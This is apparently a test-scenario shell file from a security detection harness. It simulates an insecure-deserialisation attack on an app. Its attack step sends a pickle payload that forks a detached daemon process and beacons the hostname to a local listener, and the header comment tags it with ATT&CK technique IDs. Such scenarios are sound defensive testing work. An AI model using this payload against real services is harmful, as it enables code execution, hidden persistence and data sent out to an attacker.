# Insecure deserialisation in the app (see app-deserialize-exfil), the code leaving a copy of the app's process behind:
# it forks, the child starts a session of its own (`setsid`, out of the app's process group: a daemon that outlives a
# restart of the request handling) and beacons to a listener on the host, once — no program (the child runs the same
# Python, never exec'ing), no file (T1543, T1071).
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
host_setup() { sink_listener; }
attack() {
  app_unpickle "$WEB_PORT" "import os, socket
if os.fork() == 0:
    try:
        os.setsid()
        s = socket.create_connection(('127.0.0.1', $LISTEN_PORT), timeout=5)
        s.sendall(b'beacon ' + os.uname().nodename.encode())
        s.close()
    finally:
        os._exit(0)"
  sleep 1
}
host_cleanup() { listener_stop; }
